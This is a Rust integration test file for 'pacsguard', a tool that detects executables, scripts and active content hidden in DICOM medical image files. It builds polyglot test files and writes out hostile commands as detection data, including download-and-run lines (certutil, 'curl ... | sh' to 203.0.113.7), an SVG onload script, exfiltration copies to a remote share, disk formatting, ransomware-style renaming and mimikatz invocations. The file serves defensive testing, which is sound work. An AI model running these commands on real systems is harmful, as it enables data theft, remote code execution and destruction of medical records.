//! `scan`, `sanitize` and `quarantine` through the real binary: polyglots built from real
//! executables, pydicom's and pynetdicom's real files, and proof that nothing scanned is
//! ever changed.

mod common;

use std::fs;
use std::path::Path;

use common::{Env, scan_json, snapshot, stderr, stdout};
use pacsguard_testkit::{self as kit, DicomBuilder};
use serde_json::Value;

fn findings_of<'a>(json: &'a Value, path: &Path) -> Vec<&'a Value> {
    let path = path.to_str().expect("utf-8 path");
    json["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| f["path"] == path)
        .collect()
}

fn kinds_and_formats(findings: &[&Value]) -> Vec<(String, String)> {
    findings
        .iter()
        .filter(|f| f["severity"] == "alert")
        .map(|f| {
            (
                f["kind"].as_str().unwrap_or_default().to_owned(),
                f["format"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

/// A tree of polyglots next to clean files.
fn plant_polyglots(env: &Env) {
    let dir = env.path("incoming");
    fs::create_dir_all(&dir).expect("mkdir");
    let ct = kit::pydicom_sample("CT_small.dcm");
    fs::write(dir.join("clean.dcm"), &ct).expect("write");
    let pe = kit::plant_pe_cve_2019_11687(&ct, &kit::real_pe()).expect("polyglot");
    fs::write(dir.join("cve-2019-11687.dcm"), pe).expect("write");
    fs::write(
        dir.join("elf.dcm"),
        DicomBuilder::ct("1.2.3.1")
            .preamble(&kit::real_elf())
            .build(),
    )
    .expect("write");
    let mut zipped = DicomBuilder::ct("1.2.3.2").build();
    zipped.extend(kit::zip_with("run.exe", b"MZ"));
    fs::write(dir.join("zip-appended.dcm"), zipped).expect("write");
    fs::write(
        dir.join("report.dcm"),
        DicomBuilder::encapsulated_pdf(
            "1.2.3.3",
            &kit::pdf("/OpenAction << /S /JavaScript /JS (app.launchURL('x')) >>"),
        )
        .build(),
    )
    .expect("write");
}

#[test]
fn polyglots_are_found_with_their_format_and_clean_files_are_not() {
    let env = Env::new();
    plant_polyglots(&env);
    let (code, json) = scan_json(&env, &[env.path("incoming").to_str().expect("utf-8")]);
    assert_eq!(code, 1, "{json:#}");
    let dir = env.path("incoming");
    assert!(findings_of(&json, &dir.join("clean.dcm")).is_empty());
    let cve = kinds_and_formats(&findings_of(&json, &dir.join("cve-2019-11687.dcm")));
    assert!(
        cve.contains(&("preamble-executable".into(), "pe".into())),
        "{cve:?}"
    );
    assert!(
        cve.contains(&("embedded-executable".into(), "pe".into())),
        "{cve:?}"
    );
    assert_eq!(
        kinds_and_formats(&findings_of(&json, &dir.join("elf.dcm"))),
        vec![("preamble-executable".to_owned(), "elf".to_owned())]
    );
    assert_eq!(
        kinds_and_formats(&findings_of(&json, &dir.join("zip-appended.dcm"))),
        vec![("embedded-executable".to_owned(), "zip".to_owned())]
    );
    assert_eq!(
        kinds_and_formats(&findings_of(&json, &dir.join("report.dcm"))),
        vec![("active-content".to_owned(), "pdf".to_owned())]
    );
    assert_eq!(json["files"], 5);
    assert_eq!(json["dicom_files"], 5);
}

#[test]
fn no_real_sample_file_raises_an_alert() {
    let env = Env::new();
    let (_, json) = scan_json(
        &env,
        &[
            kit::pydicom_files().to_str().expect("utf-8"),
            kit::pynetdicom_files().to_str().expect("utf-8"),
        ],
    );
    let alerts: Vec<_> = json["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| f["severity"] == "alert")
        .collect();
    assert!(alerts.is_empty(), "{alerts:#?}");
    assert!(
        json["dicom_files"].as_u64().expect("count") >= 100,
        "{}",
        json["dicom_files"]
    );
}

#[test]
fn scan_quarantine_and_profile_change_no_byte_and_no_time_of_the_tree() {
    let env = Env::new();
    plant_polyglots(&env);
    let before = snapshot(&env.tree);
    let incoming = env.path("incoming");
    let incoming = incoming.to_str().expect("utf-8");
    assert_eq!(env.run(&["scan", incoming]).status.code(), Some(1));
    let out = env.run(&["scan", "--quarantine", incoming]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let out = env.run(&["profile", env.tree_str()]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(before, snapshot(&env.tree), "the scanned tree changed");
}

#[test]
fn quarantine_copies_are_listed_shown_and_exported_never_over_a_file() {
    let env = Env::new();
    plant_polyglots(&env);
    let (code, json) = scan_json(
        &env,
        &[
            "--quarantine",
            env.path("incoming").to_str().expect("utf-8"),
        ],
    );
    assert_eq!(code, 1);
    let quarantined = json["quarantined"].as_array().expect("records");
    assert_eq!(quarantined.len(), 4, "{json:#}");
    let record = quarantined
        .iter()
        .find(|r| {
            r["original_path"]
                .as_str()
                .is_some_and(|p| p.ends_with("elf.dcm"))
        })
        .expect("elf record");
    let sha = record["sha256"].as_str().expect("sha256");

    let out = env.run(&["quarantine", "list", "--json"]);
    let listed: Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(
        listed["records"].as_array().map(Vec::len),
        Some(4),
        "{listed:#}"
    );

    let out = env.run(&["quarantine", "show", &sha[..12]]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("preamble-executable"),
        "{}",
        stdout(&out)
    );

    let exported = env.dir.path().join("evidence.bin");
    let exported_str = exported.to_str().expect("utf-8");
    let out = env.run(&["quarantine", "export", sha, "--out", exported_str]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        fs::read(&exported).expect("exported"),
        fs::read(env.path("incoming/elf.dcm")).expect("original")
    );
    let out = env.run(&["quarantine", "export", sha, "--out", exported_str]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("already exists"), "{}", stderr(&out));

    // A vault copy altered afterwards is refused, not handed out.
    let content = env.home.join("quarantine").join(sha).join("content");
    let mut perms = fs::metadata(&content).expect("stat").permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o600);
    fs::set_permissions(&content, perms).expect("chmod");
    fs::write(&content, b"swapped").expect("write");
    let out = env.run(&["quarantine", "show", sha]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("altered"), "{}", stderr(&out));

    // The trail holds every quarantine and every export with its SHA-256.
    let out = env.run(&["audit", "show", "--action", "quarantine", "--json"]);
    assert!(stdout(&out).contains(sha), "{}", stdout(&out));
    assert!(
        stdout(&out).contains("exported the vault copy"),
        "{}",
        stdout(&out)
    );
}

/// A vault copy is streamed when it is checked and exported, never read whole (found
/// open in session 7: `Vault::find` read it whole, and `export` a second time). A 64 MiB
/// copy, a thousand times the read buffer, is shown and exported by a process whose peak
/// memory (GNU time's maximum resident set) stays far below the copy's size, and the
/// export is byte-identical.
#[test]
fn a_vault_copy_larger_than_the_read_buffer_is_streamed_not_read_whole() {
    use sha2::{Digest as _, Sha256};
    const COPY_BYTES: usize = 64 << 20;
    let env = Env::new();
    plant_polyglots(&env);
    let (code, json) = scan_json(
        &env,
        &[
            "--quarantine",
            env.path("incoming").to_str().expect("utf-8"),
        ],
    );
    assert_eq!(code, 1);
    let record = json["quarantined"][0].clone();
    let small = record["sha256"].as_str().expect("sha256").to_string();
    // A large copy beside it, as the vault lays one out: content named by its SHA-256
    // and a record.
    let mut big = vec![0u8; COPY_BYTES];
    for (i, b) in big.iter_mut().enumerate() {
        *b = (i % 251) as u8;
    }
    let sha = hex::encode(Sha256::digest(&big));
    let vault = env.home.join("quarantine");
    let entry = vault.join(&sha);
    fs::create_dir(&entry).expect("entry");
    fs::write(entry.join("content"), &big).expect("content");
    drop(big);
    let mut record_json = record.clone();
    record_json["sha256"] = Value::from(sha.clone());
    record_json["size"] = Value::from(COPY_BYTES as u64);
    let small_record = fs::read_dir(vault.join(&small))
        .expect("entry")
        .flatten()
        .find(|e| e.file_name().to_string_lossy().ends_with(".json"))
        .expect("a record");
    fs::write(
        entry.join(small_record.file_name()),
        serde_json::to_vec(&record_json).expect("json"),
    )
    .expect("record");

    let peak_kib = |args: &[&str]| -> u64 {
        let out = std::process::Command::new("/usr/bin/time")
            .args(["-f", "peak-kib %M"])
            .arg(env!("CARGO_BIN_EXE_pacsguard"))
            .arg("--home")
            .arg(&env.home)
            .args(args)
            .output()
            .expect("GNU time runs (scripts/setup-test-deps.sh installs it)");
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        let text = stderr(&out);
        text.lines()
            .find_map(|l| l.strip_prefix("peak-kib "))
            .and_then(|n| n.trim().parse().ok())
            .unwrap_or_else(|| panic!("no peak in {text}"))
    };
    let limit_kib = (COPY_BYTES / 2 / 1024) as u64;
    let shown = peak_kib(&["quarantine", "show", &sha[..16]]);
    assert!(shown < limit_kib, "show peaked at {shown} KiB");
    let out_path = env.dir.path().join("big-evidence.bin");
    let exported = peak_kib(&[
        "quarantine",
        "export",
        &sha,
        "--out",
        out_path.to_str().expect("utf-8"),
    ]);
    assert!(exported < limit_kib, "export peaked at {exported} KiB");
    let copy = fs::read(&out_path).expect("exported");
    assert_eq!(copy.len(), COPY_BYTES);
    assert_eq!(hex::encode(Sha256::digest(&copy)), sha);
}

#[test]
fn sanitize_writes_a_new_verified_copy_and_refuses_everything_else() {
    let env = Env::new();
    plant_polyglots(&env);
    let input = env.path("incoming/elf.dcm");
    let output = env.dir.path().join("clean-copy.dcm");
    let before = snapshot(&env.tree);
    let out = env.run(&[
        "sanitize",
        input.to_str().expect("utf-8"),
        output.to_str().expect("utf-8"),
        "--json",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let report: Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(report["preamble_was"], "elf");
    let original = fs::read(&input).expect("input");
    let copy = fs::read(&output).expect("output");
    assert!(copy[..128].iter().all(|&b| b == 0));
    assert_eq!(copy[128..], original[128..]);
    assert_eq!(before, snapshot(&env.tree), "the original changed");

    // Never over an existing file; never a half-written one.
    let out = env.run(&[
        "sanitize",
        input.to_str().expect("utf-8"),
        output.to_str().expect("utf-8"),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(fs::read(&output).expect("output"), copy);

    // Not DICOM: exit 2, naming the file, nothing written.
    let not_dicom = env.path("readme.txt");
    let target = env.dir.path().join("never.dcm");
    let out = env.run(&[
        "sanitize",
        not_dicom.to_str().expect("utf-8"),
        target.to_str().expect("utf-8"),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("readme.txt"), "{}", stderr(&out));
    assert!(!target.exists());

    // The CVE polyglot keeps its embedded PE: said, with exit 1.
    let cve = env.path("incoming/cve-2019-11687.dcm");
    let cleaned = env.dir.path().join("cve-clean.dcm");
    let out = env.run(&[
        "sanitize",
        cve.to_str().expect("utf-8"),
        cleaned.to_str().expect("utf-8"),
    ]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("embedded-executable"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn hash_lists_match_and_bad_lists_stop_the_run_naming_the_line() {
    use sha2::Digest as _;
    let env = Env::new();
    plant_polyglots(&env);
    let clean = fs::read(env.path("incoming/clean.dcm")).expect("read");
    let digest: String = sha2::Sha256::digest(&clean)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let list = env.dir.path().join("bad.csv");
    fs::write(
        &list,
        format!("# \"first_seen_utc\",\"sha256_hash\",\"file_name\"\n\"2026-01-01\",\"{digest}\",\"x.dcm\"\n"),
    )
    .expect("write");
    let (code, json) = scan_json(
        &env,
        &[
            "--hashlist",
            list.to_str().expect("utf-8"),
            env.path("incoming/clean.dcm").to_str().expect("utf-8"),
        ],
    );
    assert_eq!(code, 1);
    assert_eq!(json["findings"][0]["kind"], "hashlist-match");
    assert_eq!(json["hashlist_entries"], 1);

    fs::write(&list, format!("{digest}\nzz\n")).expect("write");
    let out = env.run(&[
        "scan",
        "--hashlist",
        list.to_str().expect("utf-8"),
        env.tree_str(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("bad.csv, line 2"), "{}", stderr(&out));
}

#[test]
fn site_rules_apply_to_files_and_to_encapsulated_documents() {
    let env = Env::new();
    let rules = env.dir.path().join("rules");
    fs::create_dir_all(&rules).expect("mkdir");
    fs::write(
        rules.join("site.yar"),
        "rule site_invoice_lure { meta: severity = \"warning\" description = \"invoice lure\" \
         strings: $a = \"INVOICE-2026\" condition: $a at 0 }",
    )
    .expect("write");
    // The string is at offset 0 of the PDF, not of the DICOM file: only the extracted
    // document can match.
    let mut pdf = b"INVOICE-2026 ".to_vec();
    pdf.extend(kit::pdf(""));
    let file = env.path("doc.dcm");
    fs::write(
        &file,
        DicomBuilder::encapsulated_pdf("1.2.3.4", &pdf).build(),
    )
    .expect("write");
    let (code, json) = scan_json(
        &env,
        &[
            "--rules",
            rules.to_str().expect("utf-8"),
            file.to_str().expect("utf-8"),
        ],
    );
    assert_eq!(code, 1, "{json:#}");
    let finding = &json["findings"][0];
    assert_eq!(finding["kind"], "yara-match");
    assert_eq!(finding["severity"], "warning");
    assert!(
        finding["detail"]
            .as_str()
            .is_some_and(|d| d.contains("encapsulated document (0042,0011)")),
        "{finding:#}"
    );

    fs::write(rules.join("broken.yar"), "rule broken { condition: $nope }").expect("write");
    let out = env.run(&[
        "scan",
        "--rules",
        rules.to_str().expect("utf-8"),
        env.tree_str(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("broken.yar"), "{}", stderr(&out));
}

/// MAX_RULE_FINDINGS at its edge: a file matched by exactly that many rules lists every
/// match and nothing more; one rule more, and the extra match is said not to be listed
/// (a warning naming the limit), never dropped in silence.
#[test]
fn rule_matches_are_listed_to_their_limit_and_the_rest_counted() {
    let limit = pacsguard_screen::MAX_RULE_FINDINGS;
    let env = Env::new();
    let file = env.path("ct.dcm");
    fs::write(&file, DicomBuilder::ct("1.2.3.97").build()).expect("write");
    for (dir, rules) in [("at", limit), ("over", limit + 1)] {
        let dir = env.dir.path().join(dir);
        fs::create_dir_all(&dir).expect("mkdir");
        let source: String = (0..rules)
            .map(|n| {
                format!(
                    "rule dicm_{n} {{ meta: severity = \"info\" strings: $a = \"DICM\" condition: $a }}\n"
                )
            })
            .collect();
        fs::write(dir.join("many.yar"), source).expect("write");
        let (code, json) = scan_json(
            &env,
            &[
                "--rules",
                dir.to_str().expect("utf-8"),
                file.to_str().expect("utf-8"),
            ],
        );
        let findings = findings_of(&json, &file);
        let matches = findings
            .iter()
            .filter(|f| f["kind"] == "yara-match")
            .count();
        let not_listed: Vec<_> = findings
            .iter()
            .filter(|f| {
                f["kind"] == "not-inspected"
                    && f["detail"]
                        .as_str()
                        .is_some_and(|d| d.contains(&format!("limit {limit}")))
            })
            .collect();
        assert_eq!(matches, limit, "{json:#}");
        if rules == limit {
            assert_eq!(code, 0, "{json:#}");
            assert!(not_listed.is_empty(), "{json:#}");
        } else {
            assert_eq!(code, 1, "{json:#}");
            assert_eq!(not_listed.len(), 1, "{json:#}");
            assert!(
                not_listed[0]["detail"]
                    .as_str()
                    .is_some_and(|d| d.starts_with("1 more rule match")),
                "{json:#}"
            );
        }
    }
}

/// MAX_MATCHES_PER_PATTERN at its edge: yara-x keeps that many matches of a pattern, so
/// a rule counting past them (`#a > 5000`) cannot match however many there are. Below
/// the limit nothing is said; at it, the rule that did not match is named as not
/// evaluated on further matches (it was silent).
#[test]
fn a_pattern_reaching_its_match_limit_is_said_to_in_rules_that_did_not_match() {
    let limit = pacsguard_screen::MAX_MATCHES_PER_PATTERN;
    let env = Env::new();
    let rules = env.dir.path().join("rules");
    fs::create_dir_all(&rules).expect("mkdir");
    fs::write(
        rules.join("count.yar"),
        "rule many_ab { meta: severity = \"alert\" strings: $ab = \"AB;\" condition: #ab > 5000 }",
    )
    .expect("write");
    for (name, count) in [("below.txt", limit - 1), ("at.txt", limit)] {
        let file = env.path(name);
        fs::write(&file, "AB; ".repeat(count)).expect("write");
        let (_, json) = scan_json(
            &env,
            &[
                "--rules",
                rules.to_str().expect("utf-8"),
                file.to_str().expect("utf-8"),
            ],
        );
        let capped: Vec<_> = findings_of(&json, &file)
            .into_iter()
            .filter(|f| {
                f["detail"]
                    .as_str()
                    .is_some_and(|d| d.contains("MAX_MATCHES_PER_PATTERN"))
            })
            .collect();
        if count < limit {
            assert!(capped.is_empty(), "{json:#}");
        } else {
            assert_eq!(capped.len(), 1, "{json:#}");
            assert_eq!(capped[0]["severity"], "warning", "{json:#}");
            assert!(
                capped[0]["detail"]
                    .as_str()
                    .is_some_and(|d| d.contains("default:many_ab $ab")),
                "{json:#}"
            );
        }
    }
}

#[test]
fn preamble_only_finds_preamble_polyglots_from_the_first_page() {
    let env = Env::new();
    plant_polyglots(&env);
    let (code, json) = scan_json(
        &env,
        &[
            "--preamble-only",
            env.path("incoming").to_str().expect("utf-8"),
        ],
    );
    assert_eq!(code, 1);
    let dir = env.path("incoming");
    let cve = kinds_and_formats(&findings_of(&json, &dir.join("cve-2019-11687.dcm")));
    assert_eq!(
        cve,
        vec![("preamble-executable".to_owned(), "pe".to_owned())]
    );
    assert_eq!(
        kinds_and_formats(&findings_of(&json, &dir.join("elf.dcm"))),
        vec![("preamble-executable".to_owned(), "elf".to_owned())]
    );
    // Past the first page is not looked at: that is what the full scan is for.
    assert!(findings_of(&json, &dir.join("zip-appended.dcm")).is_empty());
    assert_eq!(json["rules"], 0);

    let out = env.run(&["scan", "--preamble-only", "--quarantine", env.tree_str()]);
    assert_eq!(out.status.code(), Some(2));
}

/// The start of a large image: a CT header and 1 MiB of noisy pixel data, as the first
/// window of a real one holds. Its bytes end sh at a syntax error as real pixel data does
/// (a header alone, then NUL bytes, which dash drops, does not: sh would read on, and
/// the scan says it did not follow sh past the first window).
fn large_image_head(sop_instance: &str) -> Vec<u8> {
    let mut state = 0x2545_f491_4f6c_dd1du64;
    let noise = (0..1024 * 1024)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state.to_le_bytes()[3]
        })
        .collect();
    DicomBuilder::ct(sop_instance)
        .pixels(kit::Pixels::Native(noise))
        .build()
}

/// Issue 10, class 4: a file over the whole-file limit is read in windows, never skipped:
/// a PE in the middle of a sparse file far over the limit and a ZIP at its very end are
/// found, and nothing is reported as not inspected.
#[test]
fn files_over_the_whole_file_limit_are_read_in_windows_not_skipped() {
    use std::io::{Seek as _, SeekFrom, Write as _};

    let env = Env::new();
    let huge = env.path("wsi.dcm");
    let mut file = fs::File::create(&huge).expect("create");
    let size = pacsguard_engine::MAX_WHOLE_FILE_BYTES + 3 * 1024 * 1024;
    file.write_all(&large_image_head("1.2.3.99")).expect("head");
    // Sparse: the holes cost no disk space.
    let pe_at = pacsguard_engine::MAX_WHOLE_FILE_BYTES / 2 + 12_345;
    file.seek(SeekFrom::Start(pe_at)).expect("seek");
    file.write_all(&kit::real_pe()).expect("pe");
    let zip = kit::zip_with("run.exe", b"MZ");
    file.set_len(size - zip.len() as u64).expect("sparse");
    file.seek(SeekFrom::End(0)).expect("seek");
    file.write_all(&zip).expect("zip");
    drop(file);
    let (code, json) = scan_json(&env, &[huge.to_str().expect("utf-8")]);
    assert_eq!(code, 1, "{json:#}");
    let findings = findings_of(&json, &huge);
    let at = |format: &str| {
        findings
            .iter()
            .find(|f| f["format"] == format && f["severity"] == "alert")
            .and_then(|f| f["offset"].as_u64())
    };
    assert_eq!(at("pe"), Some(pe_at), "{json:#}");
    assert_eq!(at("zip"), Some(size - 22), "{json:#}");
    assert!(
        findings.iter().all(|f| f["severity"] != "warning"),
        "{json:#}"
    );
}

/// Issue 10, class 4 (session 10): the windows after the first ran only the markup and
/// embedded searches, so a PDF, a batch line or an ex escape deep inside a huge file was
/// missed. Each kind is planted past the first window, away from any window's first
/// kilobyte (where the embedded search already looked for a PDF header), and each is an
/// alert with its format at its offset.
#[test]
fn every_reader_searches_every_window_of_a_file_read_in_windows() {
    use std::io::{Seek as _, SeekFrom, Write as _};

    let env = Env::new();
    let huge = env.path("wsi-readers.dcm");
    let mut file = fs::File::create(&huge).expect("create");
    let size = pacsguard_engine::MAX_WHOLE_FILE_BYTES + 3 * 1024 * 1024;
    file.write_all(&large_image_head("1.2.3.98")).expect("head");
    let mib = 1024 * 1024;
    let pdf = kit::pdf("/OpenAction << /S /JavaScript /JS (app.launchURL('x')) >>");
    let planted: [(u64, &[u8], &str); 4] = [
        (100 * mib + 777, &pdf, "pdf"),
        (
            140 * mib + 3,
            b"\r\ncertutil -urlcache -split -f http://203.0.113.7/a.exe a.exe\r\n",
            "batch",
        ),
        (
            180 * mib + 11,
            b"\n:!curl -s http://203.0.113.7/x | sh\n",
            "shell",
        ),
        (220 * mib + 5, b"<svg onload=alert(1)>", "html"),
    ];
    for (at, bytes, _) in &planted {
        file.seek(SeekFrom::Start(*at)).expect("seek");
        file.write_all(bytes).expect("plant");
    }
    file.set_len(size).expect("sparse");
    drop(file);
    let (code, json) = scan_json(&env, &[huge.to_str().expect("utf-8")]);
    assert_eq!(code, 1, "{json:#}");
    let findings = findings_of(&json, &huge);
    for (at, bytes, format) in planted {
        let end = at + bytes.len() as u64;
        assert!(
            findings.iter().any(|f| f["format"] == format
                && f["severity"] == "alert"
                && f["offset"].as_u64().is_some_and(|o| (at..end).contains(&o))),
            "{format} at {at}: {json:#}"
        );
    }
    // The CT header stops sh at a syntax error: no warning that sh reads on.
    assert!(
        findings.iter().all(|f| f["severity"] != "warning"),
        "{json:#}"
    );
}

/// sh is the one reader that cannot start from a later window: it stops at the first
/// syntax error from the file's start. A file whose first window holds none (text, then
/// NUL bytes that dash drops) is said not to be inspected for shell commands past it,
/// never passed over in silence.
#[test]
fn a_file_sh_reads_past_its_first_window_is_said_not_inspected_for_shell() {
    use std::io::{Seek as _, SeekFrom, Write as _};

    let env = Env::new();
    let huge = env.path("long.log");
    let mut file = fs::File::create(&huge).expect("create");
    file.write_all(b"started\n").expect("head");
    file.seek(SeekFrom::Start(200 * 1024 * 1024)).expect("seek");
    file.write_all(b"\ncurl -s http://203.0.113.7/x | sh\n")
        .expect("command");
    file.set_len(pacsguard_engine::MAX_WHOLE_FILE_BYTES + 1)
        .expect("sparse");
    drop(file);
    let (code, json) = scan_json(&env, &[huge.to_str().expect("utf-8")]);
    assert_eq!(code, 1, "{json:#}");
    let findings = findings_of(&json, &huge);
    assert!(
        findings.iter().any(|f| f["kind"] == "not-inspected"
            && f["format"] == "shell"
            && f["severity"] == "warning"
            && f["detail"]
                .as_str()
                .is_some_and(|d| d.contains("shell commands"))),
        "{json:#}"
    );
}

/// False alarm (session 5): a ZIP over the whole-file limit, read in windows, was an
/// alert from its end record alone, whatever it held. It is the file's own directory:
/// an alert only when an entry named in it runs, else the not-DICOM warning.
#[test]
fn a_zip_read_in_windows_alerts_only_for_an_entry_that_runs() {
    use std::io::{Seek as _, SeekFrom, Write as _};

    let env = Env::new();
    let size = pacsguard_engine::MAX_WHOLE_FILE_BYTES + 3 * 1024 * 1024;
    let mut paths = Vec::new();
    for name in ["notes.txt", "run.exe"] {
        // The local header and data at the start, the central directory and end record
        // at the end, a sparse hole between (readers find the directory from its end).
        let zip = kit::zip_with(name, b"content");
        let directory = zip
            .windows(4)
            .position(|w| w == b"PK\x01\x02")
            .expect("central directory");
        let path = env.path(&format!("archive-{name}.zip"));
        let mut file = fs::File::create(&path).expect("create");
        file.write_all(&zip[..directory]).expect("head");
        file.set_len(size - (zip.len() - directory) as u64)
            .expect("sparse");
        file.seek(SeekFrom::End(0)).expect("seek");
        file.write_all(&zip[directory..]).expect("tail");
        drop(file);
        paths.push(path);
    }
    let (_, json) = scan_json(&env, &[paths[0].to_str().expect("utf-8")]);
    let findings = findings_of(&json, &paths[0]);
    assert!(
        findings.iter().all(|f| f["severity"] != "alert"),
        "{json:#}"
    );
    assert!(
        findings.iter().any(|f| f["kind"] == "not-dicom"),
        "{json:#}"
    );
    let (code, json) = scan_json(&env, &[paths[1].to_str().expect("utf-8")]);
    assert_eq!(code, 1, "{json:#}");
    let findings = findings_of(&json, &paths[1]);
    assert!(
        findings.iter().any(|f| f["severity"] == "alert"
            && f["detail"].as_str().is_some_and(|d| d.contains("run.exe"))),
        "{json:#}"
    );
}

#[test]
fn too_many_rule_files_are_refused_before_anything_is_read() {
    let env = Env::new();
    let rules = env.dir.path().join("rules");
    fs::create_dir_all(&rules).expect("mkdir");
    for n in 0..=pacsguard_screen::MAX_RULE_FILES {
        fs::write(rules.join(format!("r{n}.yar")), "").expect("write");
    }
    let out = env.run(&[
        "scan",
        "--rules",
        rules.to_str().expect("utf-8"),
        env.tree_str(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("more than"), "{}", stderr(&out));
}

/// Session 11: in a file read in windows, a PE whose `e_lfanew` points further than the
/// windows overlap had its `MZ` in one window and its NT headers in another, and neither
/// window confirmed it. The NT headers are now read at their offset in the file. One
/// whose `e_lfanew` points past the file's end is not a PE.
#[test]
fn a_pe_whose_nt_headers_lie_past_the_window_of_its_dos_header_is_found() {
    use std::io::{Seek as _, SeekFrom, Write as _};

    let env = Env::new();
    let huge = env.path("wsi-distant-pe.dcm");
    let mut file = fs::File::create(&huge).expect("create");
    let size = pacsguard_engine::MAX_WHOLE_FILE_BYTES + 3 * 1024 * 1024;
    file.write_all(&large_image_head("1.2.3.97")).expect("head");
    let pe = kit::real_pe();
    let real_lfanew = u32::from_le_bytes(pe[0x3C..0x40].try_into().expect("4 bytes")) as usize;
    let mib = 1024 * 1024;
    // The DOS header (and stub) 10 MiB in, its NT headers 100 MiB further: two windows
    // of 64 MiB later.
    let mz_at: u64 = 10 * mib + 3;
    let distant = |e_lfanew: u32| {
        let mut dos = pe[..real_lfanew].to_vec();
        dos[0x3C..0x40].copy_from_slice(&e_lfanew.to_le_bytes());
        dos
    };
    let e_lfanew = 100 * mib as u32;
    file.seek(SeekFrom::Start(mz_at)).expect("seek");
    file.write_all(&distant(e_lfanew)).expect("dos");
    file.seek(SeekFrom::Start(mz_at + u64::from(e_lfanew)))
        .expect("seek");
    file.write_all(&pe[real_lfanew..]).expect("nt");
    // One whose e_lfanew points past the file's end: no PE.
    let far_at: u64 = 20 * mib + 5;
    file.seek(SeekFrom::Start(far_at)).expect("seek");
    file.write_all(&distant(250 * mib as u32)).expect("dos");
    file.set_len(size).expect("sparse");
    drop(file);
    let (code, json) = scan_json(&env, &[huge.to_str().expect("utf-8")]);
    assert_eq!(code, 1, "{json:#}");
    let findings = findings_of(&json, &huge);
    let pes: Vec<u64> = findings
        .iter()
        .filter(|f| f["format"] == "pe" && f["severity"] == "alert")
        .filter_map(|f| f["offset"].as_u64())
        .collect();
    assert_eq!(pes, vec![mz_at], "{json:#}");
    assert!(
        findings.iter().all(|f| f["severity"] != "warning"),
        "{json:#}"
    );
}

/// Session 41 (issue 10): lines cmd.exe or bash acts on, each in a report's comments
/// (ImageComments, between two lines of prose) as the review's probe put them, alert;
/// report prose that cmd.exe runs to no effect does not.
#[test]
fn report_comments_alert_for_what_cmd_acts_on_and_not_for_prose() {
    let env = Env::new();
    let dir = env.path("comments");
    fs::create_dir_all(&dir).expect("mkdir");
    let attacks = [
        "copy C:\\PACS\\a.dcm \\\\?\\UNC\\198.51.100.7\\loot\\",
        "copy C:\\PACS\\a.dcm //198.51.100.7/loot/",
        "format.com D: /q /y",
        "echo Y|format D:",
        "shutdown /r/f/t 0",
        "for %f in (*.dcm) do ren \"%f\" \"%~nf.locked\"",
        "bash --login -c \"curl http://198.51.100.7/x|sh\"",
        "bash -i -c \"id\"",
        "bash -e -c \"id\"",
        "bash /tmp/x",
        "at 23:00 mimikatz",
        "at 3:00PM C:\\x\\evil.exe",
        "start mimikatz",
        "set s=\\\\198.51.100.7\\loot\r\ncopy C:\\PACS\\*.dcm %s%",
        "evil.msc",
        "mimikatz.com",
    ];
    let prose = [
        "Start \"Time-out\" /b procedure verified.",
        "Start /B echo-planar imaging sequence.",
        "cmd /c echo of CBD seen",
        "CMD /C ECHO normal",
        "At 15:20 ipconfig",
        "Shutdown -r delayed due to emergency",
        "copy of report: \\\\PACSRV01\\reports\\2024",
        "Start heparin",
        "At 2:00 PM",
        "Radiology.com",
    ];
    let write = |kind: &str, i: usize, line: &str| {
        let text = format!("Comparison with prior CT.\r\n{line}\r\nNo acute findings.");
        let uid = format!("1.2.826.0.1.3680043.10.1137.41.{}.{i}", kind.len());
        let path = dir.join(format!("{kind}-{i:02}.dcm"));
        let file = DicomBuilder::ct(&uid)
            .element(0x0020, 0x4000, *b"LT", text.as_bytes())
            .build();
        fs::write(&path, file).expect("write");
        (path, line.to_owned())
    };
    let attacks: Vec<_> = attacks
        .iter()
        .enumerate()
        .map(|(i, line)| write("attack", i, line))
        .collect();
    let prose: Vec<_> = prose
        .iter()
        .enumerate()
        .map(|(i, line)| write("prose", i, line))
        .collect();
    let (_, json) = scan_json(&env, &[dir.to_str().expect("utf-8")]);
    let alerts = |path: &Path| {
        findings_of(&json, path)
            .iter()
            .filter(|f| f["severity"] == "alert")
            .count()
    };
    let missed: Vec<_> = attacks
        .iter()
        .filter(|(path, _)| alerts(path) == 0)
        .map(|(_, line)| line)
        .collect();
    let alerted: Vec<_> = prose
        .iter()
        .filter(|(path, _)| !findings_of(&json, path).is_empty())
        .map(|(_, line)| line)
        .collect();
    assert!(missed.is_empty(), "missed: {missed:#?}");
    assert!(alerted.is_empty(), "prose with a finding: {alerted:#?}");
}
